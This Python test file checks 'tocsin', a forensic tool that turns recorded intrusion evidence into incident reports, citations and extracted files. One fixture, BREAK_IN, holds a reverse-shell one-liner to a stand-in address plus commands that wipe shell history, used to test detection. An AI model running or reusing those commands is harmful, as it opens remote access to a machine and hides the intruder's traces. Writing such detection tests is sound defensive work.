#!/usr/bin/env python3
"""The whole program with its real helpers, on the recorded intrusion: from evidence to a report,
from a citation back to the evidence, and what the log says about it.

usage: tests/cli/whole.py TOCSIN [NAME...]"""

import hashlib
import json
import pathlib
import shutil
import sys

from person import case, main, one_line, readable

ROOT = pathlib.Path(__file__).resolve().parent.parent.parent
INTRUSION = ROOT / "examples" / "intrusion"
WEBSHELL = ROOT / "examples" / "webshell"


def report(person):
    person.run("analyze", INTRUSION, "--format", "json", "--output", "report.json", status=1)
    return json.loads((person.folder / "report.json").read_text())


def cited_lines(found):
    """The citations of single lines of plain files, as (path, number)."""
    for finding in found["findings"]:
        for cite in finding["cites"]:
            path, _, place = cite["at"].partition(":")
            if cite["kind"] == "evidence" and place.isdigit() and "!/" not in path:
                yield path, int(place)


@case
def a_saved_report_is_the_one_that_was_made(person):
    report(person)
    saved = (person.folder / "report.json").read_text()
    assert person.last()["object_sha256"] == hashlib.sha256(saved.encode()).hexdigest()
    assert person.run("report", "report.json", "--format", "json").out == saved
    direct = person.run("analyze", INTRUSION, status=1).out
    assert person.run("report", "report.json").out == direct


@case
def jobs_change_nothing(person):
    one = person.run("analyze", INTRUSION, "--format", "json", "--jobs", "1", status=1).out
    assert person.run("analyze", INTRUSION, "--format", "json", "--jobs", "4", status=1).out == one


@case
def the_leaders_page_of_the_intrusion_is_one_sheet_in_plain_words(person):
    page = person.run("analyze", INTRUSION, status=1).out.splitlines()
    assert len(page) <= 73 and max(map(len, page)) <= 80, len(page)  # what A4 holds at nine points
    assert 1 < report(person)["reading_grade"] <= 8
    asked = ("Someone got into", "machine intranet", "by guessing a password", "23 November 2026", "still in touch",
             "of data left", "We do not know", "Decide now")
    assert all(part in " ".join(page) for part in asked)


@case
def from_a_web_page_to_a_second_machine_is_one_story(person):
    """One incident over both machines; the administrator and the job that go the same way from one
    to the other are no part of it."""
    person.run("analyze", WEBSHELL, "--format", "json", "--output", "report.json", status=1)
    report = json.loads((person.folder / "report.json").read_text())
    truth = json.loads((WEBSHELL / "truth.json").read_text())
    first, second = sorted(path.name for path in WEBSHELL.iterdir() if path.is_dir())
    assert len(report["incidents"]) == 1 and len(truth["steps"]) == 9
    page = " ".join(person.run("report", "report.json").out.split())
    assert f"web server of the machine {first}, and went on from there to the machine {second}" in page
    assert f"went on from the machine {first} to the machine {second}" in page
    hops = [row for row in report["findings"] if row["rule"] == "behaviour/login-from-held-machine"]
    assert len(hops) == 1 and "We do not know all that was typed" in page
    plan = " ".join(person.run("report", "report.json", "--audience", "responder").out.split())
    assert f"take {second} off the network" in plan and f"From there they went on to {second}" in plan


@case
def a_cited_line_is_shown_and_extracted(person):
    path, number = next(cited_lines(report(person)))
    line = (INTRUSION / path).read_bytes().split(b"\n")[number - 1]
    shown = person.run("show", "report.json", f"{path}:{number}", "--evidence", INTRUSION).out
    assert any(row.split()[:2] == [">", str(number)] for row in shown.splitlines()), shown
    target = person.folder / "target"
    target.mkdir()
    person.run("extract", "report.json", f"{path}:{number}", "-e", INTRUSION, "--to", target)
    (content,) = readable(target).values()
    assert content.rstrip(b"\n") == line
    assert person.last()["object_sha256"] == hashlib.sha256(content).hexdigest()
    person.run("access", "audit", "verify")


@case
def a_file_that_passed_in_a_capture_is_listed_and_extracted(person):
    """The program that was fetched stands first, pages behind it; the hash is that of its bytes."""
    rows = [row for evidence in report(person)["evidence"] for row in evidence["carried"]]
    assert rows[0]["type"] == "shell script" and rows[0]["whole"] and rows[-1]["type"] in ("text", "HTML document")
    for row in (rows[0], rows[-1]):
        target = person.folder / f"target{rows.index(row)}"
        target.mkdir()
        person.run("extract", "report.json", row["at"], "-e", INTRUSION, "--to", target)
        (content,) = readable(target).values()
        assert hashlib.sha256(content).hexdigest() == row["sha256"] and len(content) == row["size"]
    shown = person.run("show", "report.json", rows[0]["at"], "-e", INTRUSION).out
    assert any(line.split()[:2] == [">", "1"] and "#!" in line for line in shown.splitlines()), shown
    page = " ".join(person.run("report", "report.json", "--audience", "responder").out.split())
    assert f"{rows[0]['name']}: shell script" in page and f"SHA-256 {rows[0]['sha256']}" in page


@case
def without_the_evidence_the_excerpt_is_shown(person):
    path, number = next(cited_lines(report(person)))
    trace = person.run("show", "report.json", f"{path}:{number}", "--evidence", person.home)
    assert "(excerpt)" in trace.out and "the evidence is not at hand" in one_line(trace.err)


@case
def a_place_the_report_does_not_know_is_refused(person):
    report(person)
    trace = person.run("show", "report.json", "nowhere.log:1", status=2)
    assert "no evidence of this report lies at 'nowhere.log:1'" in one_line(trace.err)


@case
def what_is_no_report_is_refused(person):
    for content in ("", "{}", "not JSON", '{"tocsin": {}}', "\0" * 100):
        person.file("report.json", content)
        for words in (("report", "report.json"), ("respond", "report.json"), ("show", "report.json", "a:1")):
            trace = person.run(*words, status=2)
            one_line(trace.err)
            assert trace.out == "", (words, content)


BREAK_IN = """#!/bin/sh
RHOST=192.0.2.7
bash -c 'exec bash -i &>/dev/tcp/192.0.2.7/4444 <&1'
rm -rf ~/.bash_history
history -c
"""


def rules_of(person, status):
    evidence = person.file("a.sh", BREAK_IN)
    trace = person.run("analyze", evidence, "--format", "json", status=status)
    found = json.loads(trace.out)
    return found["tocsin"]["models"], {finding["rule"] for finding in found["findings"]}, trace.err


@case
def the_report_names_the_weights_it_was_made_with(person):
    digest, rules, said = rules_of(person, 1)
    assert digest == hashlib.sha256((ROOT / "models/sieve-shell.bin").read_bytes()).hexdigest()
    assert "learned/shell" in rules and said == ""


@case
def damaged_weights_are_left_out_and_named(person):
    place = person.folder / "installed"
    place.mkdir()
    suffix = person.program.name.removeprefix("tocsin")
    for helper in ("", "-compile", "-examine", "-conclude"):
        shutil.copy2(person.program.parent / f"tocsin{helper}{suffix}", place)
    (place / "content").symlink_to(ROOT / "content")
    weights = bytearray((ROOT / "models/sieve-shell.bin").read_bytes())
    weights[len(weights) // 2] ^= 1
    (place / "models").mkdir()
    (place / "models" / "sieve-shell.bin").write_bytes(weights)
    person.program = place / person.program.name
    digest, rules, said = rules_of(person, 1)
    assert digest == "" and "capability/reverse-shell" in rules and "learned/shell" not in rules
    assert "models/sieve-shell.bin: the weights are damaged" in one_line(said)


if __name__ == "__main__":
    sys.exit(main(set(sys.argv[2:])))
